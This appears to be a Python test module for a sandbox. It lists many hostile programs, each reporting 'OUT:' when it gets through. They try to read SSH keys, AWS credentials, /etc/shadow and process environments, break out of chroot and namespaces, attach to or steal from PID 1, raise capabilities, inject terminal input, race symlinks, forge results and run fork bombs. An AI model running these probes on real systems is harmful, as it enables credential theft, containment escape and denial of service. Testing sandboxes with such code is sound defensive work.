"""What a hostile program tries in the cage: a name, and a program that says `OUT: …` when it got through.

`HOST` stands for a folder of the user's with files, a socket and a pipe, `PID` for a process of theirs, `PORT` for a
server on their loopback, `PROJECT` for the copy that the program may write to. Programs end by themselves.
"""

from __future__ import annotations

_READ = """
try:
    data = open({path!r}, 'rb').read(4096)
    print('OUT: read', data[:80])
except OSError as error:
    print('held', error)
"""
_WRITE = """
import os
try:
    os.makedirs(os.path.dirname({path!r}), exist_ok=True)
    open({path!r}, 'w').write('x')
    print('written', {path!r})
except OSError as error:
    print('held', error)
"""
_CALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *values):
    ctypes.set_errno(0)
    result = getattr(libc, name)(*values)
    print(name, result, os.strerror(ctypes.get_errno()))
    return result
"""


def _reads(**paths: str) -> dict[str, str]:
    return {f"read-{name.replace('_', '-')}": _READ.format(path=path) for name, path in paths.items()}


def _writes(**paths: str) -> dict[str, str]:
    return {f"write-{name.replace('_', '-')}": _WRITE.format(path=path) for name, path in paths.items()}


FILES = {
    **_reads(
        ssh_key="HOST/.ssh/id_rsa",
        credentials="HOST/.aws/credentials",
        shadow="/etc/shadow",
        through_root="/proc/self/root/HOST/.ssh/id_rsa",
        through_first="/proc/1/root/HOST/.ssh/id_rsa",
        through_folder="PROJECT/../../../../../../HOST/.ssh/id_rsa",
        hosts_environment="/proc/1/environ",
        memory_of_the_machine="/proc/kcore",
        docker="/run/docker.sock",
        machine_id="/etc/machine-id",
    ),
    **_writes(
        home="HOST/.bashrc",
        etc="/etc/made",
        usr="/usr/made",
        boot="/boot/made",
        run="/run/made",
        root="/made",
        var="/var/tmp/made",
        core_pattern="/proc/sys/kernel/core_pattern",
        sysrq="/proc/sysrq-trigger",
        first_memory="/proc/1/mem",
        user_map="/proc/self/uid_map",
        oom="/proc/1/oom_score_adj",
    ),
    "write-packages": """
import sysconfig
try:
    open(sysconfig.get_path('purelib') + '/made.pth', 'w').write('x')
    print('OUT: packages')
except OSError as error:
    print('held', error)
""",
    "link-to-key": """
import os
os.symlink('HOST/.ssh/id_rsa', 'PROJECT/key')
try:
    print('OUT:', open('PROJECT/key').read())
except OSError as error:
    print('held', error)
""",
    "hard-link-to-key": """
import os
try:
    os.link('HOST/.ssh/id_rsa', 'PROJECT/key')
    print('OUT: linked')
except OSError as error:
    print('held', error)
""",
    "list-home": """
import os
for top in ('/home', '/root', 'HOST', '/work', '/mnt', '/media', '/srv', '/opt', '/var'):
    try:
        for folder, _, names in os.walk(top):
            for name in names:
                if name in ('id_rsa', 'credentials'):
                    print('OUT:', folder, name)
    except OSError:
        pass
print('held')
""",
    "by-handle": _CALL
    + """
if call('open_by_handle_at', -100, ctypes.create_string_buffer(64), 0) >= 0:
    print('OUT: handle')
""",
    "make-device": """
import os, stat
try:
    os.mknod('PROJECT/disk', 0o666 | stat.S_IFBLK, os.makedev(254, 0))
    print('OUT: device', open('PROJECT/disk', 'rb').read(16))
except OSError as error:
    print('held', error)
""",
    "chroot": """
import os
os.makedirs('PROJECT/jail', exist_ok=True)
try:
    handle = os.open('/', os.O_RDONLY)
    os.chroot('PROJECT/jail')
    os.fchdir(handle)
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
    print('OUT: chroot')
except OSError as error:
    print('held', error)
""",
    "leaked-descriptors": """
import os
for number in range(3, 1024):
    try:
        print('OUT: descriptor', number, os.readlink(f'/proc/self/fd/{number}'))
        break
    except FileNotFoundError:
        pass
print('held')
""",
}
"""Files and folders that are none of the project's business."""

SOCKETS = {
    "unix-socket": """
import socket
try:
    handle = socket.socket(socket.AF_UNIX)
    handle.connect('HOST/agent.sock')
    handle.send(b'OUT')
    print('OUT: agent')
except OSError as error:
    print('held', error)
""",
    "abstract-socket": """
import socket
try:
    handle = socket.socket(socket.AF_UNIX)
    handle.connect('\\0jumar-hostile-NAME')
    handle.send(b'OUT')
    print('OUT: abstract')
except OSError as error:
    print('held', error)
""",
    "fifo": """
import os
try:
    os.write(os.open('HOST/fifo', os.O_WRONLY | os.O_NONBLOCK), b'OUT')
    print('OUT: fifo')
except OSError as error:
    print('held', error)
""",
    "loopback-of-the-host": """
import socket
try:
    socket.create_connection(('127.0.0.1', PORT), 3).send(b'OUT')
    print('OUT: loopback')
except OSError as error:
    print('held', error)
""",
    "network": """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        handle = socket.socket(socket.AF_INET, kind)
        handle.settimeout(3)
        handle.connect(('192.0.2.1', 53))
        handle.send(b'x')
        print('OUT: network', kind)
    except OSError as error:
        print('held', error)
""",
    "raw-socket": """
import socket
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, socket.IPPROTO_RAW)
        print('OUT: raw')
    except OSError as error:
        print('held', error)
""",
    "names-of-interfaces": """
import socket
names = [name for _, name in socket.if_nameindex()]
print('held' if names == ['lo'] else f'OUT: {names}')
""",
    "machine-to-machine": """
import socket
try:
    handle = socket.socket(getattr(socket, 'AF_VSOCK', 40), socket.SOCK_STREAM)
    handle.settimeout(2)
    handle.connect((2, 1024))
    print('OUT: vsock')
except OSError as error:
    print('held', error)
""",
}
"""Ways out by sockets and pipes."""

PROCESSES = {
    "signal-parent": """
import os, signal
for pid in (PID, os.getppid()):
    try:
        os.kill(pid, signal.SIGTERM)
        print('sent', pid)
    except OSError as error:
        print('held', error)
""",
    "signal-all": """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try:
    os.kill(-1, signal.SIGTERM)
    print('sent')
except OSError as error:
    print('held', error)
""",
    "kill-keeper": """
import os, signal
for number in range(1, 65):
    try:
        os.kill(1, number)
    except OSError:
        pass
print('still here')
""",
    "trace-keeper": _CALL
    + """
if call('ptrace', 16, 1, None, None) == 0:
    print('OUT: attached')
try:
    open('/proc/1/mem', 'rb')
    print('OUT: memory of the keeper')
except OSError as error:
    print('held', error)
for number in range(16):
    try:
        os.open(f'/proc/1/fd/{number}', os.O_RDWR)
        print('OUT: descriptor of the keeper', number)
    except OSError as error:
        print('held', error)
""",
    "read-keeper": _CALL
    + """
class Vector(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
room = ctypes.create_string_buffer(64)
ours, theirs = Vector(ctypes.addressof(room), 64), Vector(0x400000, 64)
libc.process_vm_readv.restype = ctypes.c_ssize_t
if libc.process_vm_readv(1, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) > 0:
    print('OUT: read')
print('held')
""",
    "steal-descriptor": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
handle = os.pidfd_open(1)
for number in range(16):
    if libc.syscall(438, handle, number, 0) >= 0:
        print('OUT: descriptor', number)
print('held')
""",
    "see-others": """
import os
pids = [int(name) for name in os.listdir('/proc') if name.isdecimal()]
print('OUT: sees it' if PID in pids and PID > 100 else 'held', len(pids))
""",
    "outlive": """
import os, time
for _ in range(2):
    if os.fork():
        os._exit(0)
    os.setsid()
time.sleep(600)
""",
    "ignore-signals": """
import os, signal, time
for number in set(range(1, 65)) - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
    signal.signal(number, signal.SIG_IGN)
if os.fork():
    os._exit(0)
time.sleep(600)
""",
    "change-hostname": """
import socket
try:
    socket.sethostname('hostile')
    print('OUT: hostname')
except OSError as error:
    print('held', error)
""",
    "shared-memory": """
import os
print('held' if not os.listdir('/dev/shm') else f"OUT: {os.listdir('/dev/shm')}")
open('/dev/shm/hostile-NAME', 'w').write('x')
""",
    "system-v-memory": _CALL
    + """
call('shmget', 0x4A554D41, 4096, 0o1666)
""",
    "keyring": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
number = {'x86_64': 250, 'aarch64': 219}[__import__('os').uname().machine]
found = libc.syscall(number, 10, -3, b'user', b'hostile-NAME', 0)
print('OUT: key' if found > 0 else 'held')
""",
}
"""Other processes, and what they share."""

NAMESPACES = {
    "unshare-user": _CALL
    + """
if call('unshare', 0x10000000) == 0:
    print('OUT: user namespace')
""",
    "unshare-mounts": _CALL
    + """
if call('unshare', 0x00020000) == 0:
    print('OUT: mount namespace')
""",
    "clone-user": _CALL
    + """
child = libc.syscall({'x86_64': 56, 'aarch64': 220}[os.uname().machine], 0x10000000 | 17, None, None, None, None)
if child == 0:
    os._exit(0)
print('OUT: user namespace' if child > 0 else 'held')
""",
    "setns": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name in ('mnt', 'user', 'pid', 'net'):
    try:
        handle = os.open(f'/proc/1/ns/{name}', os.O_RDONLY)
    except OSError as error:
        print('held', error)
        continue
    if libc.setns(handle, 0) == 0 and name != 'x':
        print('OUT: entered', name)
""",
    "remount-root": _CALL
    + """
for target in (b'/', b'/usr', b'/proc', b'/etc'):
    if call('mount', b'none', target, b'none', ctypes.c_ulong(32 | 4096), None) == 0:
        print('OUT: remounted', target)
""",
    "mount-proc": _CALL
    + """
os.makedirs('PROJECT/proc', exist_ok=True)
if call('mount', b'proc', b'PROJECT/proc', b'proc', ctypes.c_ulong(0), None) == 0:
    print('OUT: mounted')
""",
    "unmount": _CALL
    + """
for target in (b'/tmp', b'/proc/keys', b'/'):
    if call('umount2', target, 2) == 0:
        print('OUT: unmounted', target)
""",
    "pivot": _CALL
    + """
if libc.syscall({'x86_64': 155, 'aarch64': 41}[os.uname().machine], b'PROJECT', b'PROJECT') == 0:
    print('OUT: pivoted')
print('held')
""",
    "capabilities": """
status = dict(line.split(':\\t', 1) for line in open('/proc/self/status').read().splitlines() if ':\\t' in line)
held = [status[name].strip() for name in ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb')]
print('held' if set(held) == {'0' * 16} and status['NoNewPrivs'].strip() == '1' else f'OUT: {held}')
""",
    "raise-capabilities": _CALL
    + """
import struct
if call('capset', struct.pack('Ii', 0x20080522, 0), b'\\xff' * 24) == 0:
    print('OUT: raised')
""",
    "other-user": """
import os
for user in (0, 1, 65534):
    if user != os.getuid():
        try:
            os.setuid(user)
            print('OUT: user', user)
        except OSError as error:
            print('held', error)
""",
    "set-user-programs": """
import glob, os, subprocess
for path in ('/bin/su', '/usr/bin/sudo', '/usr/bin/newgrp', '/bin/mount', '/usr/bin/passwd'):
    if os.path.exists(path):
        done = subprocess.run([path, '-c', 'id -u'], capture_output=True, text=True, stdin=subprocess.DEVNULL)
        if os.getuid() and done.stdout.strip() == '0':
            print('OUT: root by', path)
print('held')
""",
    "load-program-into-kernel": _CALL
    + """
for number in {'x86_64': (321, 298, 323, 425), 'aarch64': (280, 241, 282, 425)}[os.uname().machine]:
    if libc.syscall(number, 0, 0, 0, 0, 0) >= 0:
        print('OUT: call', number)
print('held')
""",
}
"""Rights that a process might win back."""

LIMITS = {
    "memory": """
blocks = []
try:
    for _ in range(64):
        blocks.append(bytearray(1 << 30))
    print('OUT: 64 GiB')
except MemoryError:
    print('held')
""",
    "memory-of-many": """
import os
for _ in range(8):
    if os.fork() == 0:
        block = bytearray(200 << 20)
        block[::4096] = bytes(len(block[::4096]))
        os._exit(0)
print('held', [os.wait()[1] for _ in range(8)])
""",
    "file": """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
try:
    with open('/tmp/large', 'wb') as file:
        file.seek(1 << 40)
        file.write(b'x')
    print('OUT: a file of a tebibyte')
except OSError as error:
    print('held', error)
""",
    "space": """
try:
    for number in range(64):
        with open(f'/tmp/large{number}', 'wb') as file:
            file.write(bytes(32 << 20))
    print('OUT: 2 GiB')
except OSError as error:
    print('held', error)
""",
    "open-files": """
files = []
try:
    while len(files) < 100_000:
        files.append(open('/dev/null'))
    print('OUT: files')
except OSError as error:
    print('held', error)
""",
    "fork-bomb": """
import os, time
count = 0
try:
    while count < 100_000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        count += 1
    print('OUT: processes')
except OSError as error:
    print('held', count, error)
""",
    "threads": """
import threading, time
count = 0
try:
    while count < 100_000:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        count += 1
    print('OUT: threads')
except (RuntimeError, MemoryError) as error:
    print('held', count, error)
__import__('os')._exit(0)
""",
    "raise-limits": """
import resource
for kind in (resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    soft, hard = resource.getrlimit(kind)
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print('OUT: raised', kind)
    except (ValueError, OSError) as error:
        print('held', soft == hard, error)
""",
    "spin": """
while True:
    pass
""",
    "sleep": """
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
time.sleep(600)
""",
    "flood": """
import os
line = b'x' * 65535 + b'\\n'
try:
    while True:
        os.write(1, line)
except OSError:
    pass
""",
}
"""More than a program may use."""

RESULTS = {
    "collect-link": """
import os
os.symlink('HOST/.ssh/id_rsa', 'PROJECT/result')
""",
    "collect-fifo": """
import os
os.mkfifo('PROJECT/result')
""",
    "collect-folder": """
import os
os.mkdir('PROJECT/result')
""",
    "collect-huge": """
with open('PROJECT/result', 'wb') as file:
    file.truncate(3 << 30)
""",
    "collect-swapped": """
import os, threading, time
def swap():
    while True:
        try:
            os.symlink('/etc/passwd', 'PROJECT/next')
            os.rename('PROJECT/next', 'PROJECT/result')
            open('PROJECT/next', 'w').write('mine')
            os.rename('PROJECT/next', 'PROJECT/result')
        except OSError:
            pass
if os.fork() == 0:
    os.setsid()
    swap()
time.sleep(0.3)
""",
    "collect-device": """
import os
os.symlink('/dev/zero', 'PROJECT/result')
""",
    "forge-status": """
import os
for number in range(3, 256):
    try:
        os.write(number, b'{"code": 0, "files": {"PROJECT/result": "Zm9yZ2Vk"}}\\n')
    except OSError:
        pass
os._exit(3)
""",
    "tell-by-terminal": """
import fcntl
for number in (0, 1, 2):
    try:
        for letter in b'id\\n':
            fcntl.ioctl(number, 0x5412, bytes([letter]))
        print('OUT: typed into the terminal')
    except OSError as error:
        print('held', error)
""",
    "environment": """
import os
print(dict(os.environ))
for name in os.listdir('/proc'):
    if name.isdecimal():
        try:
            print(open(f'/proc/{name}/environ').read())
        except OSError:
            pass
""",
    "command-lines": """
import os
for name in os.listdir('/proc'):
    if name.isdecimal():
        try:
            print(open(f'/proc/{name}/cmdline').read().replace('\\0', ' '))
        except OSError:
            pass
""",
}
"""Results, and what is read of the user."""

ALL = {**FILES, **SOCKETS, **PROCESSES, **NAMESPACES, **LIMITS, **RESULTS}
ENDLESS = {"outlive", "ignore-signals", "spin", "sleep", "flood", "fork-bomb", "threads"}
"""Programs that do not end, or leave others behind: the cage ends them."""
